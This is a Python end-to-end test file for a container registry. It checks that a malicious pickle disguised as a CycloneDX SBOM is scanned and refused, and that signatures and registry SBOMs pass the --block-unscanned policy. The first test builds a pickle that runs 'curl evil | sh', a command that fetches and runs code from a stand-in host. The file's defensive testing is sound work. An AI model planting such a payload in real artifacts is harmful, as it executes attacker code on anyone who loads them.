"""The pull gate and what a manifest claims to be: SBOMs and signatures a client pushes are
pulled like anything else, so they are scanned like anything else. A malicious pickle
labelled as a CycloneDX SBOM is scanned on push and refused by a ``--block-unsafe-models``
policy; it was not scanned at all while every CycloneDX artifactType was skipped. Only
the registry's own SBOM skips the scan on push (ADR 0016), and it is recorded as scanned
when it is stored: under ``--block-unscanned`` it and a client's signature of the image
are pulled (the SBOM was refused as never scanned, for ever)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from e2e.conftest import Cli
from support import models, osv
from support.aws import aws_client
from support.images import OCI_CONFIG, OCI_MANIFEST
from support.scans import APP, finished_scan, finished_scan_of, layout, push, put_blob, put_manifest
from support.server import RunningServer, start_server

pytestmark = pytest.mark.e2e

CYCLONEDX = "application/vnd.cyclonedx+json"
SIMPLESIGNING = "application/vnd.dev.cosign.simplesigning.v1+json"
EMPTY_JSON = b"{}"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[RunningServer]:
    running = start_server(
        tmp_path / "data", env={"STRONGROOM_JOB_POLL_SECONDS": "0.1"}, args=["--workers", "1"]
    )
    try:
        yield running
    finally:
        running.stop()


@pytest.fixture
def ecr(server: RunningServer) -> Any:
    server.cli("vulndb", "import", str(osv.RECORDS_DIR))
    return aws_client(server, "ecr")


def get_manifest(http: httpx.Client, name: str, digest: str) -> httpx.Response:
    return http.get(f"/v2/{name}/manifests/{digest}", headers={"Accept": OCI_MANIFEST})


def test_a_pickle_labelled_as_an_sbom_is_scanned_and_refused(server: RunningServer, ecr: Any) -> None:
    ecr.create_repository(repositoryName="disguised/app", imageScanningConfiguration={"scanOnPush": True})
    server.cli("repo", "set-pull-policy", "disguised/app", "--block-unsafe-models")
    payload = models.call("posix", "system", "curl evil | sh")
    with server.client() as http:
        config = {
            "mediaType": "application/vnd.oci.empty.v1+json",
            **put_blob(http, "disguised/app", EMPTY_JSON),
        }
        layer = {
            "mediaType": CYCLONEDX,
            **put_blob(http, "disguised/app", payload),
            "annotations": {"org.opencontainers.image.title": "sbom.cyclonedx.json"},
        }
        manifest = {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "artifactType": CYCLONEDX,
            "config": config,
            "layers": [layer],
        }
        digest = put_manifest(http, "disguised/app", manifest, tag="v1")

        scanned = finished_scan_of(ecr, "disguised/app", {"imageDigest": digest})
        assert scanned["imageScanStatus"]["status"] == "COMPLETE"
        names = {finding["name"] for finding in scanned["imageScanFindings"]["findings"]}
        assert "pickle-code-execution" in names

        refused = get_manifest(http, "disguised/app", digest)
        assert refused.status_code == 403, refused.text
        assert refused.json()["errors"][0]["code"] == "DENIED"
        assert "pickle-code-execution" in refused.json()["errors"][0]["message"]
        assert http.get(f"/v2/disguised/app/blobs/{digest}").status_code == 403


def test_the_sbom_and_a_signature_of_a_scanned_image_pass_block_unscanned(
    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
) -> None:
    ecr.create_repository(repositoryName="signed/app", imageScanningConfiguration={"scanOnPush": True})
    push(skopeo, server, layout(tmp_path / "app", APP), "signed/app:v1")
    assert finished_scan(ecr, "signed/app", "v1")["imageScanStatus"]["status"] == "COMPLETE"
    server.cli("repo", "set-pull-policy", "signed/app", "--block-unscanned")

    with server.client() as http:
        image = get_manifest(http, "signed/app", "v1")
        assert image.status_code == 200, image.text
        subject = {
            "mediaType": OCI_MANIFEST,
            "digest": image.headers["Docker-Content-Digest"],
            "size": len(image.content),
        }
        # A signature as cosign writes one, attached to the image by its subject.
        config = {"mediaType": OCI_CONFIG, **put_blob(http, "signed/app", b'{"os": ""}')}
        claim = json.dumps({"critical": {"image": {"docker-manifest-digest": subject["digest"]}}}).encode()
        signature = put_manifest(
            http,
            "signed/app",
            {
                "schemaVersion": 2,
                "mediaType": OCI_MANIFEST,
                "config": config,
                "layers": [{"mediaType": SIMPLESIGNING, **put_blob(http, "signed/app", claim)}],
                "subject": subject,
            },
        )
        listed = http.get(f"/v2/signed/app/referrers/{subject['digest']}").json()["manifests"]
        [sbom] = [m["digest"] for m in listed if m.get("artifactType") == CYCLONEDX]

        for digest in (sbom, signature):
            scanned = finished_scan_of(ecr, "signed/app", {"imageDigest": digest})
            assert scanned["imageScanStatus"]["status"] == "COMPLETE", (digest, scanned)
            assert scanned["imageScanFindings"].get("findings", []) == []
            pulled = get_manifest(http, "signed/app", digest)
            assert pulled.status_code == 200, pulled.text
        # The registry's SBOM is not scanned (it holds what the image's scan found), so it
        # has no SBOM of its own.
        assert http.get(f"/v2/signed/app/referrers/{sbom}").json()["manifests"] == []
